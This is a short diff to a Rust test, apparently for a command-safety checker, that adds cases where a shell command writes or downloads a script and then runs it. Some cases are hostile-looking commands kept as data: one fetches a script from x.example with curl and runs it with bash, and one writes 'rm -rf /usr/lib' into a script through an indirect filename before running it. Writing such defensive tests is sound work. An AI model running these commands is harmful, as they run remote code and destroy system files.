@@ -208,6 +208,9 @@ async fn what_a_command_writes_and_then_runs_is_read_as_it_will_be() {
         ("curl -sO https://x.example/ok.sh; bash ok.sh", false),
         ("curl -s https://x.example/a > ok.sh; bash ok.sh", false),
         ("sed -i s/a/b/ ok.sh; bash ok.sh", false),
+        ("f=$(echo ok.sh | sed s/x/x/); echo 'rm -rf /usr/lib' > \"$f\"; bash ok.sh", false),
+        ("d=$(date +%F); echo done > report-$d.txt; bash ok.sh", true),
+        ("curl -sO 'https://x.example/ok.sh?raw=1'; bash ok.sh", false),
         ("python3 -c \"open('ok.sh', 'w').write('x')\"; bash ok.sh", false),
         // a write may fail or come later, and then the old one runs
         ("echo ls > bad.sh; bash bad.sh", false),
